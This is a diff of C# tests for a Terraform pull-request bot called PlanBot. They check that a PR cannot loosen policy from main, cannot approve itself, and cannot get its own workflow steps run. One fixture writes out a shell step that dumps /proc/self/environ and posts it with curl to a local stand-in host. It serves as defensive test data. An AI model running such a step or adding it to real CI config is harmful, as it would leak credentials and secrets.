@@ -184,18 +184,76 @@ public sealed class TrustBoundaryTests : IAsyncLifetime
     }
 
     [Fact]
-    public async Task The_trusted_base_is_the_events_base_sha_even_when_the_default_branch_moved_since()
+    public async Task A_policy_tightened_on_the_default_branch_after_the_pr_was_opened_applies_to_its_next_run_and_the_pr_cannot_loosen_it()
     {
         var head = await PushAsync(48, new() { ["network/main.tf"] = LocalBackend + Resource("vpc", "10.8.0.0/16") + Output("cidr", "terraform_data.vpc.output") });
-        _github.Pulls[48]["base"]!["sha"] = (await _scenario.Repo.GitAsync("rev-parse", "main")).Trim();
-        await _scenario.Repo.GitAsync("checkout", "-q", "main");
-        _scenario.Repo.Write("planbot.yaml", "locks: { backend: local }\napproval: { foundational_paths: [network] }\n");
-        await _scenario.Repo.CommitAsync("main moves on after the event: network becomes foundational");
-        await _scenario.Repo.GitAsync("checkout", "-q", "pr-48");
-
         var (code, errors) = await RunAsync("pull_request", PullRequestEvent(48, "opened"));
         code.ShouldBe(0, errors);
-        _github.Statuses.Last().ShouldBe((head, "success", "planbot/apply-gate", "planned; no approval needed"), "judged by the base the event names, not main as it is now");
+        _github.Statuses.Last().ShouldBe((head, "success", "planbot/apply-gate", "planned; no approval needed"));
+
+        // main tightens after the PR was opened (network becomes foundational); the PR's events still name the old base
+        await _scenario.Repo.GitAsync("checkout", "-q", "main");
+        _scenario.Repo.Write("planbot.yaml", "locks: { backend: local }\napproval: { foundational_paths: [network] }\n");
+        await _scenario.Repo.CommitAsync("main tightens: network is foundational");
+        await _scenario.Repo.GitAsync("checkout", "-q", "pr-48");
+        (code, errors) = await RunAsync("pull_request", PullRequestEvent(48));
+        code.ShouldBe(0, errors);
+        _github.Statuses.Last().ShouldBe((head, "pending", "planbot/apply-gate", "approval needed for network: comment /planbot approve"), "judged by main as it is when the run starts");
+        _github.CommentsOn(48).First().Body.ShouldNotContain("take effect after merge", customMessage: "the PR is only behind main: it changes no policy key");
+
+        // the PR answers by loosening the rules in its own planbot.yaml: they stay main's, and the change is flagged
+        _scenario.Repo.Write("planbot.yaml", "locks: { backend: local }\napproval: { destructive: false, allow_self_approval: true, foundational_paths: [] }\n");
+        var loosened = await _scenario.Repo.CommitAsync("loosen it back");
+        _github.Pulls[48]["head"]!["sha"] = loosened;
+        (code, errors) = await RunAsync("pull_request", PullRequestEvent(48));
+        code.ShouldBe(0, errors);
+        _github.Statuses.Last().ShouldBe((loosened, "pending", "planbot/apply-gate", "approval needed for network: comment /planbot approve"));
+        _github.CommentsOn(48).First().Body.ShouldContain("take effect after merge");
+        (code, errors) = await RunAsync("issue_comment", CommentEvent(48, "/planbot approve", "alice"));
+        code.ShouldBe(0, errors);
+        _github.CommentsOn(48).Last().Body.ShouldStartWith("@alice your approval does not count: you opened this pull request");
+        _github.Statuses.Last().State.ShouldBe("pending");
+    }
+
+    [Fact]
+    public async Task A_pr_adding_workflow_steps_a_terraform_version_or_a_mirror_does_not_get_them_run_on_its_plan()
+    {
+        var stolen = _dir.Combine("stolen-environ");
+        var ran = _dir.Combine("step-ran");
+        var workflows = $"workflows:\n  default:\n    plan:\n      - init\n      - run: [sh, -c, \"cat /proc/self/environ > {stolen}; curl -s -m 2 --data-binary @{stolen} http://127.0.0.1:9/; touch {ran}\"]\n      - plan\n";
+        var head = await PushAsync(49, new()
+        {
+            ["network/main.tf"] = LocalBackend + Resource("vpc", "10.49.0.0/16") + Output("cidr", "terraform_data.vpc.output"),
+            ["planbot.yaml"] = "locks: { backend: local }\nterraform: { version: 1.5.7, mirror: \"file:///nonexistent/mirror\" }\n" + workflows,
+        });
+        var (code, errors) = await RunAsync("pull_request", PullRequestEvent(49, "opened"));
+        code.ShouldBe(0, errors);
+        File.Exists(stolen).ShouldBeFalse("the PR's own run step did not run");
+        File.Exists(ran).ShouldBeFalse();
+        var plan = _github.CommentsOn(49).First().Body;
+        plan.ShouldContain("`terraform`");
+        plan.ShouldContain("`workflows`");
+        plan.ShouldContain("take effect after merge");
+        plan.ShouldNotContain("1.5.7", customMessage: "the terraform on PATH planned it, not a version the PR picked from its mirror");
+        _github.Statuses.Last().ShouldBe((head, "pending", "planbot/apply-gate", "approval needed for network: comment /planbot approve"), "planned (not failed installing 1.5.7), and the policy change needs approval");
+
+        // control: the same step on main runs for the next PR (so the check above can fail), and main's mirror is used
+        await _scenario.Repo.GitAsync("checkout", "-q", "main");
+        _scenario.Repo.Write("planbot.yaml", "locks: { backend: local }\n" + workflows);
+        await _scenario.Repo.CommitAsync("main adopts the step");
+        head = await PushAsync(50, new() { ["network/main.tf"] = LocalBackend + Resource("vpc", "10.50.0.0/16") + Output("cidr", "terraform_data.vpc.output") });
+        (code, errors) = await RunAsync("pull_request", PullRequestEvent(50, "opened"));
+        code.ShouldBe(0, errors);
+        File.Exists(ran).ShouldBeTrue("main's step runs");
+        File.ReadAllText(stolen).ShouldNotContain(FakeGitHub.Token, customMessage: "and even then without PlanBot's token");
+
+        await _scenario.Repo.GitAsync("checkout", "-q", "main");
+        _scenario.Repo.Write("planbot.yaml", "locks: { backend: local }\nterraform: { version: 1.5.7, mirror: \"file:///nonexistent/mirror\" }\n");
+        await _scenario.Repo.CommitAsync("main pins a version from a mirror");
+        head = await PushAsync(51, new() { ["network/main.tf"] = LocalBackend + Resource("vpc", "10.51.0.0/16") + Output("cidr", "terraform_data.vpc.output") });
+        (code, errors) = await RunAsync("pull_request", PullRequestEvent(51, "opened"));
+        _github.Statuses.Last().ShouldBe((head, "failure", "planbot/apply-gate", _github.Statuses.Last().Description), "main's version and mirror are used: the install from the missing mirror fails");
+        _github.CommentsOn(51).First().Body.ShouldContain("1.5.7");
     }
 
     [Fact]
